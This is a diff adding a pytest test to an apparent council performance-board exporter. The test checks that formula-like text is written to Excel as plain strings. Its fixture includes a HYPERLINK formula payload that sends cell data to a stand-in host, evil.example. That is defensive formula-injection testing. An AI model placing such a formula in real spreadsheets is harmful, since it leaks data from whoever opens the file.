@@ -3,6 +3,7 @@ example register and actuals (2025-26 Q4: 3 Red, 3 Amber, 13 Green, 2 Grey, 1 mi
 
 from __future__ import annotations
 
+import csv
 import struct
 from collections.abc import Iterator
 from dataclasses import dataclass, field, replace
@@ -12,6 +13,7 @@ from pathlib import Path
 from typing import Any, ClassVar
 
 import pytest
+import yaml
 from openpyxl import load_workbook
 from openpyxl.worksheet.worksheet import Worksheet
 
@@ -29,7 +31,7 @@ from bot.ragg import Ragg
 from bot.summary import SignOffState, Summary, build_summary, tally
 from storage.engine import make_engine
 from storage.migrate import upgrade
-from tests.conftest import ADMIN, EXAMPLES
+from tests.conftest import ADMIN, EXAMPLES, Cli
 
 NOW = datetime(2026, 5, 1, 9, 0, tzinfo=UTC)
 TODAY = NOW.date()
@@ -498,3 +500,87 @@ def test_exception_sheet_names_are_legal_excel_names() -> None:
 
 def test_ragg_words_are_the_framework_words() -> None:
     assert [status.word for status in Ragg] == ["Red", "Amber", "Green", "Grey", "No data"]
+
+
+# ---------------------------------------------------------------------------- text stays text
+
+FORMULA = '=HYPERLINK("https://evil.example/steal?d="&A1,"Board papers")'
+
+
+def _formula_register(folder: Path) -> Path:
+    """The example register with register text that a spreadsheet would run as formulas."""
+    data = yaml.safe_load((EXAMPLES / "register.yaml").read_text(encoding="utf-8"))
+    data["council"] = "@SUM(1+1) District Council"
+    for priority in data["priorities"]:
+        for aim in priority["aims"]:
+            for measure in aim["measures"]:
+                if measure["ref"] == "DE2.3":
+                    measure["title"] = FORMULA
+                    measure["definition"] = "-10+20 decisions in time"
+                    measure["benchmarking"] = "+44 councils compared"
+    path = folder / "register.yaml"
+    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")
+    return path
+
+
+def _formula_actuals(folder: Path) -> Path:
+    """The example actuals, with DE2.3's Red 2025-26 Q4 commentary a formula."""
+    with (EXAMPLES / "actuals.csv").open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    for row in rows:
+        if (row["ref"], row["period"]) == ("DE2.3", "2025-26 Q4"):
+            row["commentary"] = FORMULA
+        if (row["ref"], row["period"]) == ("SC1.2", "2025-26 Q4"):
+            row["commentary"] = "-1+1 minus first"
+    path = folder / "actuals.csv"
+    with path.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.DictWriter(handle, fieldnames=["ref", "period", "value", "commentary"])
+        writer.writeheader()
+        writer.writerows(rows)
+    return path
+
+
+def test_export_board_writes_every_text_as_text_never_a_formula(cli: Cli, tmp_path: Path) -> None:
+    """Issue 9 item 6: commentary (here via `import actuals`) and register text starting with
+    = + - @ or a tab are string cells holding exactly what was written; counts stay numbers."""
+    for args in (
+        ("import", "register", str(_formula_register(tmp_path))),
+        ("import", "actuals", str(_formula_actuals(tmp_path)), "--today", "2026-05-01"),
+    ):
+        done = cli(*args)
+        assert done.code == 0, done.err
+    book = tmp_path / "board.xlsx"
+    done = cli(
+        "export", "board", "--period", "2025-26 Q4", "--out", str(book), "--today", "2026-05-01"
+    )
+    assert done.code == 0, done.err
+
+    workbook = load_workbook(book)
+    texts = 0
+    for sheet in workbook.worksheets:
+        for cells in sheet.iter_rows():
+            for cell in cells:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
+                    texts += 1
+    assert texts > 300
+
+    exception = _exception(_sheet(book, "Exception DE2.3"))
+    assert exception["Performance Overview - Quarterly Update"] == FORMULA
+    assert exception["Measure and Reference"] == f"DE2.3 {FORMULA}"
+    assert exception["Definition"] == "-10+20 decisions in time"
+    assert exception["Benchmarking Information"] == "+44 councils compared"
+    sc12 = _exception(_sheet(book, "Exception SC1.2"))
+    assert sc12["Performance Overview - Quarterly Update"] == "-1+1 minus first"
+
+    board = _sheet(book, "Performance Board")
+    measure = _board_rows(board)["DE2.3"]["Measure"]
+    assert (measure.value, measure.data_type, measure.quotePrefix) == (FORMULA, "s", True)
+    assert str(board["A1"].value).startswith("@SUM(1+1) District Council — ")
+
+    summary_sheet = _sheet(book, "Summary")
+    overall = next(row for row in summary_sheet.iter_rows(min_row=5) if row[0].value == "All")
+    counts = [cell.value for cell in overall[2:8]]
+    assert counts == [3, 3, 13, 2, 1, 22]
+    assert all(cell.data_type == "n" for cell in overall[2:8])
